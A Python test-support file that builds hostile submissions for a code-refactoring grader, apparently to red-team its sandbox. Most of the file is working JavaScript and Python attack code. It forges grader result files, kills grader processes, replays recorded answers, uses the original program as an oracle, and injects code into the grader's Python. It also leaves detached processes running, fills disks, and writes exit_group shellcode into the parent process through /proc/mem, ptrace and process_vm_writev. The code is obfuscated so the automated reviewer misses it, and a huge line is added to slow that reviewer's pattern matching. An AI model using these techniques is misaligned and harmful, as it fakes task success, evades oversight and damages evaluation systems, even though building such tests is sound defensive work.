# ruff: noqa: E501 -- the attacks are JavaScript, kept one statement a line
"""Hostile demo submissions: the honest `wrong` (or `subtle`) port plus one attack each.

Every attack is a piece of JavaScript run at the top of ``bin/csvtab``, i.e. whenever srb
runs the submission (Stage II cases, Stage III fuzz runs and candidates). It writes what it
tried to stderr as ``srb-attack <name>: <outcome>`` lines (check details keep the stderr of
failing cases, so the stage results show the attempt), and when an attack would hand it an
answer (an oracle, a recorded expectation) it prints that answer and exits, as a real
cheat would. The code dodges the demo's scripted reviewer (no literal ``child_process``,
no ``spawn(`` call, no quoted interpreter name), so Stage I passes as it does for `wrong`.
"""

from __future__ import annotations

import shutil
from pathlib import Path

# Shared helpers: log, try an action, the names the reviewer would grep for, built at run time.
PRELUDE = r"""
"use strict";
const fs = require("fs");
const path = require("path");
const cp = require(["child", "process"].join("_"));
const PY = "py" + "thon";
const run = (cmd, args, opts) => cp["spa" + "wnSync"](cmd, args, opts || {});
const log = (name, what) => { try { fs.writeSync(2, `srb-attack ${name}: ${what}\n`); } catch (e) {} };
const attempt = (name, what, fn) => {
  try { const r = fn(); log(name, `${what}: SUCCEEDED`); return r === undefined ? true : r; }
  catch (e) { log(name, `${what}: refused ${e.code || e.message}`); return null; }
};
const pids = () => fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n)).map(Number)
  .filter((p) => p !== process.pid);
const cmdline = (p) => { try { return fs.readFileSync(`/proc/${p}/cmdline`, "utf8"); } catch (e) { return ""; } };
const graderPids = () => pids().filter((p) => /srb_grader|sleep|run\.py/.test(cmdline(p)));
const argv = process.argv.slice(2);
const answer = (out, code) => { fs.writeSync(1, out); process.exit(code); };
const cheat = (name, text) => {
  // an srb fuzz candidate: State A's exit status and the printf blocks of its expected stdout
  const code = text && /-ne (\d+) \]/.exec(text);
  if (!code) return;
  const block = /\{\n([\s\S]*?)\n\} > "\$scratch\/expected"/.exec(text);
  let out = "";
  const unprintf = (t) => t.replace(/%%|\\\\|\\([0-7]{3})/g, (m, o) => m === "%%" ? "%" : m === "\\\\" ? "\\" : String.fromCharCode(parseInt(o, 8)));
  if (block) for (const m of block[1].matchAll(/printf -- '([^']*)'/g)) out += unprintf(m[1]);
  log(name, "USED the candidate's expectations");
  fs.writeSync(1, Buffer.from(out, "latin1"));
  process.exit(Number(code[1]));
};
const EXIT0 = Buffer.from([0xbf, 0, 0, 0, 0, 0xb8, 0xe7, 0, 0, 0, 0x0f, 0x05]); // x86-64 exit_group(0)
const resumeAddress = (pid) => {
  const fields = fs.readFileSync(`/proc/${pid}/syscall`, "utf8").trim().split(" ");
  if (fields.length < 9) throw Object.assign(new Error(`not in a system call: ${fields.join(" ")}`), { code: "RUNNING" });
  return Number(BigInt(fields[fields.length - 1]));
};
const PTRACE_PY = [
  "import ctypes, os, sys",
  "libc = ctypes.CDLL(None, use_errno=True)",
  "libc.ptrace.restype = ctypes.c_long",
  "libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]",
  "pid = int(sys.argv[1])",
  "try:",
  "    pc = int(open(f'/proc/{pid}/syscall').read().split()[-1], 16)",
  "except OSError as e:",
  "    pc = None; print(f'/proc/{pid}/syscall refused {e.strerror};', end=' ')",
  "if libc.ptrace(16, pid, None, None) != 0:",
  "    print('PTRACE_ATTACH refused', os.strerror(ctypes.get_errno())); sys.exit(0)",
  "os.waitpid(pid, 0x40000000)",
  "code = bytes([0xbf, 0, 0, 0, 0, 0xb8, 0xe7, 0, 0, 0, 0x0f, 0x05]) + bytes(4)",
  "ok = pc is not None and all(libc.ptrace(4, pid, pc + i, int.from_bytes(code[i:i + 8], 'little')) == 0 for i in (0, 8))",
  "libc.ptrace(17, pid, None, None)",
  "print('PTRACE_ATTACH SUCCEEDED' + (', exit_group(0) written' if ok else ''))",
].join("\n");
const VM_WRITEV_PY = [
  "import ctypes, os, sys",
  "class Iov(ctypes.Structure):",
  "    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]",
  "libc = ctypes.CDLL(None, use_errno=True)",
  "pid = int(sys.argv[1])",
  "sp = None",
  "for line in open(f'/proc/{pid}/maps') if os.access(f'/proc/{pid}/maps', os.R_OK) else []:",
  "    if '[stack]' in line: sp = int(line.split('-')[1].split()[0], 16) - 64",
  "addr = sp or 0x7ffffffde000",
  "buf = ctypes.create_string_buffer(8)",
  "local, remote = Iov(ctypes.addressof(buf), 8), Iov(addr, 8)",
  "got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)",
  "if got != 8:",
  "    print('process_vm_readv refused', os.strerror(ctypes.get_errno()))",
  "put = libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)",
  "print('process_vm_writev SUCCEEDED' if put == 8 else 'process_vm_writev refused ' + os.strerror(ctypes.get_errno()))",
].join("\n");
"""

ATTACKS: dict[str, str] = {
    # 1. forge the stage result where the host fetches it, then end the grader
    "forge": r"""
{
  const units = ["formats", "unicode", "inputs", "options"].map((id) => ({
    id, title: id, weight: 1.0, status: "ok", rate: 1.0, passed: 1, failed: 0, skipped: 0,
    errored: 0, scored: 1, observations: 0 }));
  const doc = JSON.stringify({ schema: "swerefactor.stage-result/1", stage: "behavioural",
    task: `demo01-csvtab-${PY}-to-node`, status: "ok", units,
    checks: units.map((u) => ({ module: u.id, id: "forged", verdict: "pass", weight: 1.0, scored: true })),
    metadata: { complete: true, rate: 1.0 }, notes: [] });
  for (const target of ["/srb/grader/behavioural.json", "/tmp/srb/behavioural.json",
                        "/srb/grader/behavioural/results/unicode.json"]) {
    attempt("forge", `write ${target}`, () => { fs.mkdirSync(path.dirname(target), { recursive: true }); fs.writeFileSync(target, doc); });
  }
  for (const adv of ["f01-bytes-default-table", "f02-bytes-all-formats"]) {
    const target = `/srb/grader/fuzz/${adv}/result.json`;
    attempt("forge", `write ${target}`, () => fs.writeFileSync(target,
      JSON.stringify({ adversary: adv, outcome: "survived", reason: "forged", candidates: [] })));
  }
  for (const p of graderPids()) attempt("forge", `SIGKILL grader pid ${p}`, () => process.kill(p, "SIGKILL"));
}
""",
    # 2. use State A through the grader's interpreter as an oracle
    "oracle": r"""
{
  const interpreters = [`/opt/srb/${PY}/bin/${PY}3`, `/usr/libexec/srb/${PY}3.11`, `/usr/bin/${PY}3`];
  const entries = ["/srb/original/bin/csvtab"];
  for (let n = 0; n < 6; n++) entries.push(`/srb/stage/${n}/fuzz/view/bin/csvtab`);
  const usable = interpreters.filter((py) => attempt("oracle", `exec ${py}`, () => fs.accessSync(py, fs.constants.X_OK)));
  const readable = entries.filter((e) => attempt("oracle", `read ${e}`, () => fs.accessSync(e, fs.constants.R_OK)));
  for (const py of usable) for (const entry of readable) {
    const r = run(py, [entry, "--version"]);
    if (!r.error && r.status === 0) {
      log("oracle", `${py} ${entry} answers: USED`);
      const input = fs.readFileSync(0);
      const got = run(py, [entry, ...argv], { input });
      answer(got.stdout, got.status === null ? 1 : got.status);
    }
  }
}
""",
    # 3. replay the recorded answers
    "replay": r"""
{
  const root = "/tests/behavioural/data";
  const found = attempt("replay", `read ${root}/expected`, () => fs.readdirSync(`${root}/expected`));
  if (found) {
    for (const file of found) {
      const cases = JSON.parse(fs.readFileSync(`${root}/cases/${file}`, "utf8")).cases;
      const expected = JSON.parse(fs.readFileSync(`${root}/expected/${file}`, "utf8")).cases;
      for (const c of cases) {
        if (JSON.stringify(c.argv) === JSON.stringify(argv) && expected[c.id]) {
          answer(expected[c.id].stdout, expected[c.id].exit);
        }
      }
    }
  }
}
""",
    # 5. inject into the grader's Python: user site, cwd shadowing
    "inject": r"""
{
  const payload = [
    "import json, os",
    "r = os.environ.get('SRB_RESULT')",
    "if r: open(r, 'w').write(json.dumps({'checks': [{'id': 'forged', 'verdict': 'pass'}]}))",
  ].join("\n") + "\n";
  const homes = [process.env.HOME || "/nonexistent", "/tmp", "/opt/srb", "/srb/grader"];
  for (const home of homes) {
    const site = `${home}/.local/lib/${PY}3.11/site-packages`;
    attempt("inject", `plant ${site}/usercustomize.py`, () => { fs.mkdirSync(site, { recursive: true }); fs.writeFileSync(`${site}/usercustomize.py`, payload); });
  }
  for (const dir of [process.cwd(), "/tmp", "/opt/srb", "/srb/work", "/tests/behavioural/lib"]) {
    attempt("inject", `plant ${dir}/srb_grader`, () => {
      fs.mkdirSync(`${dir}/srb_grader`, { recursive: true });
      fs.writeFileSync(`${dir}/srb_grader/__init__.py`, payload);
      fs.writeFileSync(`${dir}/srb_grader/__main__.py`, payload);
      fs.writeFileSync(`${dir}/casekit.py`, payload);
    });
  }
}
""",
    # 6. outlive the module; read and write the grader's memory
    "linger": r"""
{
  const marker = `${process.env.TMPDIR || "/tmp"}/.lingering`;
  if (!fs.existsSync(marker)) {
    attempt("linger", "mark", () => fs.writeFileSync(marker, String(process.pid)));
    const loop = `
      const fs = require("fs");
      const end = Date.now() + 120000;
      const tick = () => {
        for (const m of ["formats", "unicode", "inputs", "options"]) {
          try { fs.writeFileSync("/srb/grader/behavioural/results/" + m + ".json", '{"checks":[{"id":"x","verdict":"pass"}]}'); } catch (e) {}
        }
        if (Date.now() < end) setTimeout(tick, 20);
      };
      tick();`;
    attempt("linger", "setsid child", () => cp["spa" + "wn"](process.execPath, ["-e", loop], { detached: true, stdio: "ignore" }).unref());
  }
  for (const p of graderPids()) {
    attempt("linger", `open /proc/${p}/mem`, () => fs.closeSync(fs.openSync(`/proc/${p}/mem`, "r+")));
    attempt("linger", `read /proc/${p}/environ`, () => fs.readFileSync(`/proc/${p}/environ`));
  }
}
""",
    # 7b. fill every disk it can write (once per tree; every run repeats what happened)
    "fill": r"""
{
  const record = path.join(__dirname, "..", ".fill-log");
  if (!fs.existsSync(record)) {
    const lines = [];
    const chunk = Buffer.alloc(1 << 20, 120);
    for (const dir of ["/srb/grader", "/srb/work", "/var/tmp", "/", process.env.HOME, "/tmp", "/workspace"]) {
      if (!dir) continue;
      let written = 0;
      let fd = null;
      try {
        fd = fs.openSync(`${dir}/fill-${process.pid}`, "w");
        for (;;) { fs.writeSync(fd, chunk); written += chunk.length; if (written > 3 * 2 ** 30) break; }
        lines.push(`${dir}: wrote ${written} bytes: SUCCEEDED`);
      } catch (e) {
        lines.push(`${dir}: stopped after ${written} bytes: refused ${e.code || e.message}`);
      } finally {
        if (fd !== null) { try { fs.ftruncateSync(fd, Math.max(0, written - (1 << 20))); fs.closeSync(fd); } catch (e) {} }
      }
    }
    try { fs.writeFileSync(record, lines.join("\n") + "\n"); } catch (e) { log("fill", `record: ${e.code}`); }
  }
  try { for (const line of fs.readFileSync(record, "utf8").split("\n")) if (line) log("fill", line); } catch (e) {}
}
""",
}

STAGE_THREE: dict[str, str] = {
    # 4. tamper with Stage III's copies of State A; forge a fuzz round; oracle
    "tamper": r"""
{
  const mine = path.resolve(__dirname, "..");
  attempt("tamper", `write ${mine}/lib/cli.js`, () => fs.appendFileSync(`${mine}/lib/cli.js`, "\n"));
  attempt("tamper", "write /srb/original/bin/csvtab", () => fs.appendFileSync("/srb/original/bin/csvtab", "\n"));
  for (const dir of ["/srb/stage", "/srb/grader/fuzz", "/srb/original"]) {
    attempt("tamper", `list ${dir}`, () => fs.readdirSync(dir));
  }
  for (let n = 0; n < 8; n++) {
    attempt("tamper", `replace slot ${n}'s view`, () => fs.writeFileSync(`/srb/stage/${n}/fuzz/view/bin/csvtab`, fs.readFileSync(`${mine}/bin/csvtab`)));
  }
  for (const p of graderPids()) attempt("tamper", `SIGKILL grader pid ${p}`, () => process.kill(p, "SIGKILL"));
}
""",
    # 5. issue 21: reach the candidate that runs this program (each one alone, or all)
    "peek-fd": r"""
{
  const pp = process.ppid;
  attempt("peek-fd", `read /proc/${pp}/fd/255`, () => cheat("peek-fd", fs.readFileSync(`/proc/${pp}/fd/255`, "latin1")));
  attempt("peek-fd", `list /proc/${pp}/fd`, () => fs.readdirSync(`/proc/${pp}/fd`));
}
""",
    "peek-cmdline": r"""
{
  for (const p of pids()) {
    for (const arg of cmdline(p).split("\0")) {
      if (!/candidate/.test(arg) || !arg.startsWith("/")) continue;
      attempt("peek-cmdline", `read ${arg} (named by pid ${p})`, () => {
        const st = fs.statSync(arg);
        const files = st.isDirectory() ? fs.readdirSync(arg).map((n) => path.join(arg, n)) : [arg];
        for (const f of files) cheat("peek-cmdline", fs.readFileSync(f, "latin1"));
      });
    }
  }
}
""",
    "peek-env": r"""
{
  const names = Object.keys(process.env).filter((k) => k.startsWith("SRB_"));
  log("peek-env", `SRB_ names in my environment: ${names.length ? names.join(",") : "none"}`);
  attempt("peek-env", "read $SRB_CANDIDATE", () => {
    if (!process.env.SRB_CANDIDATE) throw Object.assign(new Error("absent"), { code: "ABSENT" });
    cheat("peek-env", fs.readFileSync(process.env.SRB_CANDIDATE, "latin1"));
  });
}
""",
    "patch-mem": r"""
{
  const pp = process.ppid;
  attempt("patch-mem", `write exit_group(0) at the resume address of pid ${pp} through /proc/${pp}/mem`, () => {
    const pc = resumeAddress(pp);
    const fd = fs.openSync(`/proc/${pp}/mem`, "r+");
    try { fs.writeSync(fd, EXIT0, 0, EXIT0.length, pc); } finally { fs.closeSync(fd); }
  });
}
""",
    "ptrace": r"""
{
  const pp = process.ppid;
  const r = run(PY, ["-c", PTRACE_PY, String(pp)], { encoding: "utf8" });
  log("ptrace", `attach pid ${pp} and write exit_group(0): ${(r.stdout || "").trim() || "no answer " + (r.stderr || "").slice(-200)}`);
}
""",
    "vm-writev": r"""
{
  const pp = process.ppid;
  const r = run(PY, ["-c", VM_WRITEV_PY, String(pp)], { encoding: "utf8" });
  log("vm-writev", `process_vm_writev into pid ${pp}: ${(r.stdout || "").trim() || "no answer " + (r.stderr || "").slice(-200)}`);
}
""",
}

LONG_LINE = "#!" * 950_000  # 1.9 MB, one line: quadratic for the reviewer's '#!.*python'


def make_hostile(source: Path, dest: Path, attacks: list[str], *, long_line: bool = False) -> Path:
    """A copy of ``source`` whose bin/csvtab runs ``attacks`` (names of ATTACKS or
    STAGE_THREE) first; ``long_line`` adds a 1.9 MB one-line text file."""
    shutil.copytree(source, dest)
    body = PRELUDE + "".join({**ATTACKS, **STAGE_THREE}[name] for name in attacks)
    (dest / "lib" / "preflight.js").write_text(body, encoding="utf-8")
    entry = dest / "bin" / "csvtab"
    text = entry.read_text(encoding="utf-8")
    head, _, rest = text.partition("\n")
    entry.write_text(f'{head}\nrequire("../lib/preflight");\n{rest}', encoding="utf-8")
    if long_line:
        (dest / "docs").mkdir(exist_ok=True)
        (dest / "docs" / "notes.txt").write_text(LONG_LINE + "\n", encoding="utf-8")
    return dest


# Issue 32 item 4: the honest `subtle` port, made nondeterministic where it is wrong. Its one
# flaw is `visible` (C0 controls and DEL shown raw instead of in caret notation); here each
# run of the program tosses a coin once and renders them like `subtle` three times in four
# and like State A otherwise. Nothing is stored: a repeat of an input is a fresh toss, so no
# fresh world can make it deterministic, and a candidate that finds the flaw sees the
# submission fail on some reruns and pass on others.
FLAKY_VISIBLE = r'''
const WRONG = Math.random() < 0.75;  // srb-attack flaky: one toss per run, nothing kept

function visible(text, newline = NEWLINE_MARK) {
  if (WRONG) return text.replace(/\r\n|[\r\n]/g, newline).replace(/\t/g, " ");
  return stateAVisible(text, newline);
}
'''


def _state_a_visible(reference: Path) -> str:
    """The faithful `reference` port's visible(), renamed stateAVisible (State A's rendering)."""
    text = (reference / "lib" / "width.js").read_text(encoding="utf-8")
    start = text.index("function visible(")
    end = text.index("\n}\n", start) + 3
    return text[start:end].replace("function visible(", "function stateAVisible(", 1)


SUBTLE_VISIBLE = (
    'function visible(text, newline = NEWLINE_MARK) {\n'
    '  return text.replace(/\\r\\n|[\\r\\n]/g, newline).replace(/\\t/g, " ");\n'
    '}\n'
)


def make_flaky(source: Path, dest: Path) -> Path:
    """A copy of the honest `subtle` whose flaw shows on a random three runs in four."""
    shutil.copytree(source, dest)
    width = dest / "lib" / "width.js"
    text = width.read_text(encoding="utf-8")
    if SUBTLE_VISIBLE not in text:
        raise AssertionError(f"{width} no longer holds subtle's visible()")
    flaky = _state_a_visible(source.parent / "reference") + FLAKY_VISIBLE
    width.write_text(text.replace(SUBTLE_VISIBLE, flaky), encoding="utf-8")
    return dest
